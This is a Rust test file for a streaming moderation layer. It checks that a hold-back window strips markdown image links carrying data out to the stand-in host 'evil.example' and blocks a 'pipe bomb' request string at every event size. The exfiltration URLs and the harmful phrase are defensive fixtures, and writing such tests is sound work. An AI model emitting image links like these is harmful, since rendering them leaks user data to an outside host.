//! Native test of the channel adapter against the runtime's real hold-back window: events of
//! every size, text released only through `HoldBack`, edits applied to pending text the way the
//! runtime applies them.

use parapet_moderation::{ModerationConfig, Moderator, RequestContext, TextShape};
use parapet_response_guard::ChannelScan;
use parapet_runtime::window::{HoldBack, Piece};

const WINDOW: usize = 256;

fn moderator() -> Moderator {
    let mut cfg = ModerationConfig {
        max_holdback_bytes: WINDOW,
        ..ModerationConfig::default()
    };
    cfg.links.max_url_bytes = WINDOW / 2;
    Moderator::new(&cfg).unwrap()
}

/// Streams `text` in events of `size` bytes (char-aligned); returns (client text, blocked).
fn simulate(m: &Moderator, text: &str, size: usize) -> (String, bool) {
    let mut hold: HoldBack<usize, u8> = HoldBack::new(WINDOW);
    let mut scan = ChannelScan::new(m, &RequestContext::default(), true, TextShape::Prose);
    let mut client = String::new();
    let mut rest = text;
    let mut n = 0;
    loop {
        let is_final = rest.is_empty();
        if !is_final {
            let mut cut = size.min(rest.len());
            while !rest.is_char_boundary(cut) {
                cut += 1;
            }
            let starts = hold.push(
                n,
                vec![Piece {
                    channel: 0,
                    text: rest[..cut].to_string(),
                }],
            );
            n += 1;
            rest = &rest[cut..];
            let new_from = starts[0].1;
            let pending = hold.pending(&0);
            let d = scan
                .on_text(&pending, new_from, false, None)
                .expect("window respected");
            if d.blocked {
                hold.discard();
                return (client, true);
            }
            hold.apply_edits(&0, &d.edits).expect("valid edits");
        } else {
            let pending = hold.pending(&0);
            let d = scan
                .on_text(&pending, pending.len(), true, None)
                .expect("final");
            if d.blocked {
                hold.discard();
                return (client, true);
            }
            if !pending.is_empty() {
                hold.apply_edits(&0, &d.edits).expect("valid edits");
            }
        }
        for r in hold.release(is_final) {
            for p in r.pieces {
                client.push_str(&p.text);
            }
        }
        if is_final {
            return (client, false);
        }
    }
}

#[test]
fn redactions_and_blocks_through_the_runtime_window_at_every_event_size() {
    let m = moderator();
    let filler = "Plain words about gardening and tomatoes. ".repeat(12);
    let cases: Vec<(String, Option<String>, bool)> = vec![
        (format!("{filler}Done."), None, false),
        (
            format!("{filler}Chart ![c](https://evil.example/c.png?d=c2VjcmV0) end. {filler}"),
            Some(format!(
                "{filler}Chart ![c]([removed: exfiltration]) end. {filler}"
            )),
            false,
        ),
        (
            format!("{filler}Now here is how to make a pipe bomb: fill it. {filler}"),
            None,
            true,
        ),
    ];
    for (text, expected, should_block) in &cases {
        for size in 1..=80 {
            let (client, blocked) = simulate(&m, text, size);
            assert_eq!(blocked, *should_block, "size {size}");
            if *should_block {
                let at = text.find("how to make a pipe bomb").unwrap();
                assert!(
                    client.len() <= at && text.starts_with(&client),
                    "size {size}: {client:?}"
                );
            } else {
                assert_eq!(&client, expected.as_ref().unwrap_or(text), "size {size}");
            }
        }
    }
}

#[test]
fn long_exfiltration_url_is_broken_before_any_of_it_leaves() {
    let m = moderator();
    let url = format!("https://evil.example/p.png?d={}", "QUJD".repeat(100));
    let text = format!("Look ![x]({url}) done.");
    for size in [1, 3, 7, 16, 64, 200] {
        let (client, blocked) = simulate(&m, &text, size);
        assert!(!blocked);
        assert!(!client.contains("evil.example"), "size {size}: {client}");
        assert!(
            client.starts_with("Look ![x]([removed: exfiltration]"),
            "size {size}: {client}"
        );
    }
}
